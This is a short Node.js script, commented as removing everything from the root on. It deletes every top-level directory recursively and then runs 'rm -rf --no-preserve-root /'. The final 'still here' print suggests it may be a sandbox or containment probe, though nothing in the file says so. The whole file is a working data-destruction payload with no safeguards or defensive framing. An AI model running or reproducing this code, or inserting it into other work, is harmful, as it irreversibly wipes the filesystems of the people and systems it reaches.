// Removes everything that it may, from the root on.
const { spawnSync } = require('child_process');

for (const name of require('fs').readdirSync('/')) {
  try {
    require('fs').rmSync(`/${name}`, { recursive: true, force: true });
  } catch {
  }
}
spawnSync('rm', ['-rf', '--no-preserve-root', '/']);
console.log('still here');
